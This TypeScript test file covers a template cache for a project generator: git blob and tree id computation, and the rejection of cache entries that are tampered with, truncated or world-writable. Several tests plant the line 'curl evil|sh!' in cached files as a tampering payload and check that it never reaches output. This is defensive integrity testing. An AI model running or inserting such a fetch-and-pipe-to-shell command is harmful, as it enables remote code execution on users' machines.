import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { TemplateCacheError, blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
import { listTree } from '../src/edge/git/objects.js';
import { planRender } from '../src/core/template/plan.js';
import { prepareTemplate } from '../src/edge/parse-trees.js';
import { parseTemplateSpec } from '../src/core/template/spec.js';
import type { LoadedTemplate } from '../src/core/template/types.js';
import { runCli, tempDir } from './helpers/cli.js';
import { builtinTemplateRepo, edit, gitIn } from './helpers/git.js';

const enc = (s: string) => new TextEncoder().encode(s);
const SPEC = 'name: c\nversion: 1.0.0\nquestions:\n  - { key: title, type: text, default: T }\n  - { key: kinds, type: multi, choices: [a, b], default: [a] }\n';
const FILES: Record<string, string> = {
  'README.md': '# {{title}}\n{{#each kinds}}- {{this}}\n{{/each}}',
  '{{title}}/plain.txt': 'no template here\n',
};

/** A template repository with one commit, its tree listing as git gives it, and the template loaded. */
async function sample(): Promise<{ repo: string; commit: string; listing: TreeEntry[]; tpl: LoadedTemplate; prove: (l: TreeEntry[]) => boolean }> {
  const repo = tempDir();
  writeFileSync(path.join(repo, 'template.yaml'), SPEC);
  for (const [p, text] of Object.entries(FILES)) {
    mkdirSync(path.dirname(path.join(repo, 'files', p)), { recursive: true });
    writeFileSync(path.join(repo, 'files', p), text);
  }
  writeFileSync(path.join(repo, 'NOTES.md'), 'not a template file\n');
  gitIn(repo, 'init', '-q');
  gitIn(repo, 'add', '-A');
  gitIn(repo, 'commit', '-qm', 'v1');
  const commit = gitIn(repo, 'rev-parse', 'HEAD').trim();
  const listing = await listTree(repo, commit);
  const files = new Map(Object.entries(FILES).map(([k, v]) => [k, enc(v)]));
  const tpl = await prepareTemplate({ spec: parseTemplateSpec(SPEC), files, generators: new Map() });
  const tree = gitIn(repo, 'rev-parse', 'HEAD^{tree}').trim();
  return { repo, commit, listing, tpl, prove: (l) => treeIdOf(l) === tree };
}

/** A template repository with README.md at v1.0.0, and at v1.1.0 with a line added ("New in 1.1.0."). */
function twoVersions(tpl: string, initArgs: string[] = [], config: string[][] = []): string {
  mkdirSync(path.join(tpl, 'files'), { recursive: true });
  writeFileSync(path.join(tpl, 'template.yaml'), SPEC);
  writeFileSync(path.join(tpl, 'files/README.md'), FILES['README.md']!);
  gitIn(tpl, 'init', '-q', ...initArgs);
  for (const [k, v] of config) gitIn(tpl, 'config', k!, v!);
  gitIn(tpl, 'add', '-A');
  gitIn(tpl, 'commit', '-qm', 'v1');
  gitIn(tpl, 'tag', 'v1.0.0');
  edit(path.join(tpl, 'template.yaml'), (t) => t.replace('version: 1.0.0', 'version: 1.1.0'));
  edit(path.join(tpl, 'files/README.md'), (t) => `${t}New in 1.1.0.\n`);
  gitIn(tpl, 'commit', '-qam', 'v2');
  gitIn(tpl, 'tag', 'v1.1.0');
  return tpl;
}

/**
 * A project generated in `tmp` from `tpl` at v1.0.0 with a cache folder of its own (`env`), and
 * its first `sync --dry-run --json` to v1.1.0 (`first`), which fills the cache's `entries`.
 */
async function projectBehind(tmp: string, tpl: string) {
  const cache = tempDir('cm-cache-');
  const env = { XDG_CACHE_HOME: cache };
  const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
  expect(gen.code, gen.stderr).toBe(0);
  const dir = path.join(tmp, 'p');
  const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
  expect(first.code, first.stderr).toBe(0);
  return { env, dir, first, entries: path.join(cache, 'create-migration/templates') };
}

const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.pack'))!);
/**
 * Rewrites an entry: `change` gets its header (parsed) and its files' bytes (past the parse
 * trees), and the digest (of the header and the trees) is made to match, as a deliberate
 * tamperer would.
 */
function tamper(file: string, change: (header: Record<string, unknown>, data: Buffer) => Buffer | void): void {
  const raw = readFileSync(file);
  const pack = raw.subarray(65);
  const size = pack.readUInt32BE(0);
  const header = JSON.parse(pack.toString('latin1', 4, 4 + size)) as Record<string, unknown>;
  const trees = Buffer.from(pack.subarray(4 + size, 4 + size + ((header.trees as number) ?? 0)));
  const bytes = Buffer.from(pack.subarray(4 + size + trees.length));
  const data = change(header, bytes) ?? bytes;
  const json = Buffer.from(JSON.stringify(header), 'latin1');
  const head = Buffer.concat([Buffer.alloc(4), json, trees]);
  head.writeUInt32BE(json.length);
  writeFileSync(file, Buffer.concat([Buffer.from(`${createHash('sha256').update(head).digest('hex')}\n`), head, data]));
}

/** Tampers with one cached file's bytes (`files/<p>`), keeping their length: every other file keeps its place. */
function tamperFile(file: string, p: string, change: (text: string) => string): void {
  tamper(file, (h, data) => {
    const [, , start, end] = (h.files as [string, string, number, number][]).find(([tree, q]) => tree === 'files' && q === p)!;
    const text = change(data.toString('latin1', start, end));
    expect(text.length).toBe(end - start);
    data.write(text, start, 'latin1');
  });
}

/** A blob of `repo` by its id, as git gives it (what the cache reads a failed file from). */
const blobOf = (repo: string) => () => (sha: string) => Buffer.from(execFileSync('git', ['cat-file', 'blob', sha], { cwd: repo }));

/** A repository committing these files (run.sh executable) and a link to a.b: git's listing of it and its tree id. */
async function committed(paths: string[]): Promise<{ listing: TreeEntry[]; tree: string }> {
  const repo = tempDir();
  for (const p of paths) {
    mkdirSync(path.dirname(path.join(repo, p)), { recursive: true });
    writeFileSync(path.join(repo, p), `${p}\n`);
  }
  chmodSync(path.join(repo, 'run.sh'), 0o755);
  symlinkSync('a.b', path.join(repo, 'link'));
  gitIn(repo, 'init', '-q');
  gitIn(repo, 'add', '-A');
  gitIn(repo, 'commit', '-qm', 'x');
  return { listing: await listTree(repo, gitIn(repo, 'rev-parse', 'HEAD').trim()), tree: gitIn(repo, 'rev-parse', 'HEAD^{tree}').trim() };
}

describe('template cache', () => {
  it("computes git's blob ids", () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'f'), FILES['README.md']!);
    expect(blobId(enc(FILES['README.md']!))).toBe(gitIn(dir, 'hash-object', 'f').trim());
  });

  it("makes git's tree id from a full listing: nested folders, names that sort around a folder's, executable files, links", async () => {
    const { listing, tree } = await committed(['a.b', 'a-c', 'a/x', 'a/y/z', 'a0', 'b/c.txt', 'ü/ñ.md', 'run.sh', '\u{1F600}.md', '\uFF01.md']);
    expect(listing.map((e) => e.mode)).toEqual(expect.arrayContaining(['100755', '120000']));
    expect(treeIdOf(listing)).toBe(tree);
    // Any change to a path, mode or id is another tree; a listing git could not print is none.
    expect(treeIdOf(listing.slice(1))).not.toBe(treeIdOf(listing));
    expect(treeIdOf(listing.map((e) => (e.mode === '100755' ? { ...e, mode: '100644' } : e)))).not.toBe(treeIdOf(listing));
    expect(treeIdOf([...listing, { ...listing[0]!, path: 'a' }])).toBeUndefined();
    expect(treeIdOf([{ ...listing[0]!, path: 'x/../y' }])).toBeUndefined();
  });

  it("makes git's tree id in one pass from a listing in git's order, and the same from any other order", async () => {
    // ASCII names only, as git lists them: the one-pass path (names around a folder's, a folder
    // deep in folders, a link, an executable); shuffled, the general path must agree.
    const { listing, tree } = await committed(['a.b', 'a-c', 'a/x', 'a/y/z', 'a/y0', 'a0', 'b/c.txt', 'b/d/e/f/g.md', 'c', 'run.sh', 'z/.hidden', 'z/...']);
    expect(treeIdOf(listing)).toBe(tree);
    expect(treeIdOf([...listing].reverse())).toBe(tree);
    expect(treeIdOf([listing[3]!, ...listing.slice(0, 3), ...listing.slice(4)])).toBe(tree);
    // Every entry counts, in order too.
    for (let i = 0; i < listing.length; i++) {
      expect(treeIdOf([...listing.slice(0, i), ...listing.slice(i + 1)])).not.toBe(tree);
      const other = listing.map((e, k) => (k === i ? { ...e, sha: `${e.sha.slice(0, 39)}${e.sha[39] === '0' ? '1' : '0'}` } : e));
      expect(treeIdOf(other)).not.toBe(tree);
    }
    // A listing git could not print is none, in order or not: a name twice, a file where a
    // folder of its name is, an empty, "." or ".." name, an id or mode git does not write.
    const first = listing[0]!;
    expect(treeIdOf([first, first, ...listing.slice(1)])).toBeUndefined();
    expect(treeIdOf([{ ...first, path: 'a' }, ...listing])).toBeUndefined();
    expect(treeIdOf([{ ...first, path: 'a' }, { ...first, path: 'a/x' }])).toBeUndefined();
    for (const bad of ['a//x', '/a', 'a/', './a', 'a/./b', 'a/../b', '..']) expect(treeIdOf([{ ...first, path: bad }])).toBeUndefined();
    expect(treeIdOf([{ ...first, sha: first.sha.toUpperCase().replace(/[0-9]/g, 'A') }])).toBeUndefined();
    expect(treeIdOf([{ ...first, mode: '100664' }])).toBeUndefined();
  });

  it('gives back the template it stored, rendering the same, with the listing it was proved by', async () => {
    const dir = tempDir();
    const { commit, listing, tpl, prove } = await sample();
    writeCachedTemplate('/tpl', commit, listing, tpl, dir);
    const back = await readCachedTemplate('/tpl', commit, prove, dir);
    expect(back).toBeDefined();
    expect(back!.listing).toEqual(listing);
    const answers = { title: 'Hi', kinds: ['a', 'b'] };
    const texts = (t: LoadedTemplate) => planRender(t, answers).map((f) => [f.path, new TextDecoder().decode(f.data)]);
    expect(texts(back!.template)).toEqual(texts(tpl));
    expect(texts(back!.template)).toContainEqual(['Hi/plain.txt', 'no template here\n']);
    expect(back!.template.spec).toEqual(tpl.spec);
    // Another commit or location is another entry; a listing not proved is no entry.
    expect(await readCachedTemplate('/tpl', commit.replace(/^./, (c) => (c === 'a' ? 'b' : 'a')), prove, dir)).toBeUndefined();
    expect(await readCachedTemplate('/other', commit, prove, dir)).toBeUndefined();
    expect(await readCachedTemplate('/tpl', commit, () => false, dir)).toBeUndefined();
  });

  it('ignores an entry that was edited, truncated, for another tree, or writable by others', async () => {
    const { commit, listing, tpl, prove } = await sample();
    const fresh = () => {
      const dir = tempDir();
      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
      return { dir, file: only(dir) };
    };
    const read = (dir: string) => readCachedTemplate('/tpl', commit, prove, dir);
    let c = fresh();
    expect(await read(c.dir)).toBeDefined();
    // The bytes and the listing's id for them changed together: the listing no longer makes the commit's tree.
    c = fresh();
    tamper(c.file, (h, data) => {
      const out = Buffer.from(data.toString('latin1').replace('no template here', 'injected texts!!'), 'latin1');
      h.listing = (h.listing as string[][]).map((l) => (l[0]!.endsWith('plain.txt') ? [l[0]!, l[1]!, l[2]!, blobId(enc('injected texts!!\n'))] : l));
      return out;
    });
    expect(await read(c.dir)).toBeUndefined();
    // The header edited, its digest left as it was.
    c = fresh();
    writeFileSync(c.file, Buffer.from(readFileSync(c.file).toString('latin1').replace('"version":"1.0.0"', '"version":"9.0.0"'), 'latin1'));
    expect(await read(c.dir)).toBeUndefined();
    c = fresh();
    writeFileSync(c.file, readFileSync(c.file).subarray(0, 200));
    expect(await read(c.dir)).toBeUndefined();
    c = fresh();
    writeFileSync(c.file, readFileSync(c.file).subarray(0, readFileSync(c.file).length - 1));
    expect(await read(c.dir)).toBeUndefined();
    // The spec not from the listing's template.yaml; a file the listing has left out.
    c = fresh();
    tamper(c.file, (h) => void (h.specSha = blobId(enc('other spec'))));
    expect(await read(c.dir)).toBeUndefined();
    c = fresh();
    tamper(c.file, (h) => void (h.files = (h.files as unknown[]).slice(1)));
    expect(await read(c.dir)).toBeUndefined();
    c = fresh();
    chmodSync(c.file, 0o666);
    expect(await read(c.dir)).toBeUndefined();
    chmodSync(c.file, 0o600);
    chmodSync(c.dir, 0o777);
    expect(await read(c.dir)).toBeUndefined();
  });

  it("checks a file's bytes against its blob id when first used: bytes that fail never reach the output, and the entry goes", async () => {
    const { repo, commit, listing, tpl, prove } = await sample();
    const answers = { title: 'Hi', kinds: ['a', 'b'] };
    const texts = (t: LoadedTemplate) => planRender(t, answers).map((f) => [f.path, new TextDecoder().decode(f.data)]);
    const want = texts(tpl);
    // A file copied as it is, and a file that renders: each tampered (same length, digests made to match).
    for (const [p, from, to] of [
      ['{{title}}/plain.txt', 'no template here', 'injected texts!!'],
      ['README.md', '# {{title}}', '# {{kinds}}'],
    ] as const) {
      const dir = tempDir();
      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
      const file = only(dir);
      tamperFile(file, p, (t) => t.replace(from, to));
      // Loaded without reading any file's bytes: the entry is still there.
      const back = await readCachedTemplate('/tpl', commit, prove, dir, blobOf(repo));
      expect(back).toBeDefined();
      expect(existsSync(file)).toBe(true);
      // Rendered: the tampered file is read from the repository instead, and the entry is removed (stored again on the next load).
      expect(texts(back!.template)).toEqual(want);
      expect(existsSync(file)).toBe(false);
      expect(JSON.stringify(texts(back!.template))).not.toContain(to);
      // Where the repository's copy cannot be read after all, the render stops: no output from the bad bytes.
      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
      tamperFile(file, p, (t) => t.replace(from, to));
      const blind = await readCachedTemplate('/tpl', commit, prove, dir, () => () => undefined);
      expect(() => planRender(blind!.template, answers)).toThrow(TemplateCacheError);
      expect(existsSync(file)).toBe(false);
      // With no reader of the repository's objects, every file is checked as the entry is read: not used.
      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
      tamperFile(file, p, (t) => t.replace(from, to));
      expect(await readCachedTemplate('/tpl', commit, prove, dir)).toBeUndefined();
    }
  });

  it("a file a render skip takes from the project is never checked, and its cached bytes are never used", async () => {
    const { repo, commit, listing, tpl, prove } = await sample();
    const answers = { title: 'Hi', kinds: ['a', 'b'] };
    const dir = tempDir();
    writeCachedTemplate('/tpl', commit, listing, tpl, dir);
    const file = only(dir);
    const good = (await readCachedTemplate('/tpl', commit, prove, dir))!.template;
    const keys = Object.fromEntries(planRender(good, answers, {}, { keys: true }).flatMap((f) => (f.key ? [[f.path, f.key]] : [])));
    // The text that renders and the file copied as it is (its path rendered) both have keys.
    expect(Object.keys(keys).sort()).toEqual(['Hi/plain.txt', 'README.md']);
    tamperFile(file, 'README.md', (t) => t.replace('# {{title}}', '# {{kinds}}'));
    tamperFile(file, '{{title}}/plain.txt', (t) => t.replace('no template', 'NO TEMPLATE'));
    const back = (await readCachedTemplate('/tpl', commit, prove, dir, blobOf(repo)))!.template;
    const mine = new TextEncoder().encode('# Hi\n- a\n- b\n');
    const myPlain = new TextEncoder().encode('no template here\n');
    const planned = planRender(back, answers, {}, { skip: { keys, asRendered: new Map([['README.md', mine], ['Hi/plain.txt', myPlain]]) } });
    expect(planned.find((f) => f.path === 'README.md')!.data).toBe(mine);
    expect(planned.find((f) => f.path === 'Hi/plain.txt')!.data).toBe(myPlain);
    // The entry is untouched: the skipped files' bytes were not checked (a check of them fails and removes it).
    expect(existsSync(file)).toBe(true);
    // Read later, they are checked then: the repository's bytes, not the cache's.
    expect(new TextDecoder().decode(back.files.get('README.md'))).toBe(FILES['README.md']);
    expect(existsSync(file)).toBe(false);
  });

  it('sync from a template repository fills the cache, then uses it; a tampered entry changes nothing', async () => {
    const tmp = tempDir();
    const tpl = builtinTemplateRepo(path.join(tmp, 'tpl'), (repo) => edit(path.join(repo, 'files/README.md'), (t) => `${t}\nNew in 1.1.0.\n`));
    const { env, dir, first, entries } = await projectBehind(tmp, tpl);
    const packs = () => readdirSync(entries).filter((f) => f.endsWith('.pack'));
    expect(packs()).toHaveLength(2); // v1.0.0 (generate) and v1.1.0
    // Dated back: an entry used is not written again; one refused is.
    const past = new Date('2020-01-01T00:00:00Z');
    const ages = () => packs().map((f) => statSync(path.join(entries, f)).mtimeMs);
    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
    const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(second.stdout).toBe(first.stdout);
    expect(ages()).toEqual([past.getTime(), past.getTime()]);
    // A file the sync takes from the project (its render key unchanged): its bytes are neither
    // checked nor used, and the entry stays as it is.
    const target = packs().find((f) => readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
    tamperFile(path.join(entries, target), 'docs/risk-register.md', (t) => t.replace(/[a-z]/g, 'x'));
    utimesSync(path.join(entries, target), past, past);
    const skipped = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(skipped.stdout).toBe(first.stdout);
    expect(ages()).toEqual([past.getTime(), past.getTime()]);
    // Same length, so that every file keeps its place: only the blob ids can tell. README.md
    // renders: its bytes are checked, fail, and are read from the repository instead; the entry
    // goes, and the next sync stores it again from git.
    for (const f of packs()) tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
    const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(third.code, third.stderr).toBe(0);
    expect(third.stdout).toBe(first.stdout);
    expect(third.stdout).not.toContain('evil');
    expect(packs()).toHaveLength(1);
    const fourth = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(fourth.stdout).toBe(first.stdout);
    expect(packs()).toHaveLength(2);
    expect(ages().filter((t) => t !== past.getTime())).toHaveLength(1); // v1.1.0's, read from git again and stored
    gitIn(tpl, 'status'); // the template repository is untouched and readable
  });

  it('a sync whose cached file fails its check and cannot be read from the repository stops before writing anything', async () => {
    const tmp = tempDir();
    const tpl = twoVersions(path.join(tmp, 'tpl'));
    const { env, dir, entries } = await projectBehind(tmp, tpl);
    const target = readdirSync(entries).find((f) => f.endsWith('.pack') && readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
    tamperFile(path.join(entries, target), 'README.md', (t) => t.replace('New in 1.1.0.', 'curl evil|sh!'));
    // The new README's blob gone from the repository's objects (its commit and trees stay).
    const blob = gitIn(tpl, 'rev-parse', 'v1.1.0:files/README.md').trim();
    rmSync(path.join(tpl, '.git/objects', blob.slice(0, 2), blob.slice(2)));
    const before = gitIn(dir, 'for-each-ref').trim();
    const readme = readFileSync(path.join(dir, 'README.md'), 'utf8');
    const r = await runCli(['sync'], { cwd: dir, env });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('template cache');
    expect(`${r.stdout}${r.stderr}`).not.toContain('evil');
    expect(readFileSync(path.join(dir, 'README.md'), 'utf8')).toBe(readme);
    expect(gitIn(dir, 'for-each-ref').trim()).toBe(before);
    expect(gitIn(dir, 'status', '--porcelain').trim()).toBe('');
    expect(existsSync(path.join(entries, target))).toBe(false);
  });

  // Where the commit's tree is not read from the object files (git reads a SHA-256 repository, or
  // one with an extension), the listing is proved by comparing it with what git lists.
  it.each([
    ['a SHA-256 repository', ['--object-format=sha256'], []],
    ['a repository with an extension', [], [['core.repositoryformatversion', '1'], ['extensions.worktreeConfig', 'true']]],
  ])('%s: the cache is used, and an entry whose listing and bytes were changed together is refused', async (_name, initArgs, config) => {
    const tmp = tempDir();
    const tpl = twoVersions(path.join(tmp, 'tpl'), initArgs, config);
    const { env, dir, first, entries } = await projectBehind(tmp, tpl);
    expect(first.stdout).toContain('New in 1.1.0.');
    const packs = () => readdirSync(entries).filter((f) => f.endsWith('.pack'));
    const past = new Date('2020-01-01T00:00:00Z');
    const rewritten = () => packs().filter((f) => statSync(path.join(entries, f)).mtimeMs !== past.getTime()).length;
    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
    const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(second.stdout).toBe(first.stdout);
    expect(rewritten()).toBe(0);
    const algorithm = initArgs.length ? 'sha256' : 'sha1';
    // A file's bytes alone changed: with objects not read from the files here, every file is
    // checked as the entry is read; the entry is refused, and stored again from git.
    for (const f of packs()) {
      tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
      utimesSync(path.join(entries, f), past, past);
    }
    const bytesOnly = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(bytesOnly.stdout).toBe(first.stdout);
    expect(bytesOnly.stdout).not.toContain('evil');
    expect(rewritten()).toBe(1);
    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
    for (const f of packs()) {
      tamper(path.join(entries, f), (h, data) => {
        h.listing = (h.listing as string[][]).map((l) => (l[0] === 'files/README.md' ? [l[0], l[1]!, l[2]!, blobId(enc(`${FILES['README.md']!}curl evil|sh!\n`), algorithm)] : l));
        return Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1');
      });
      utimesSync(path.join(entries, f), past, past);
    }
    const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(third.stdout).toBe(first.stdout);
    expect(third.stdout).not.toContain('evil');
    expect(rewritten()).toBe(1);
  });
});
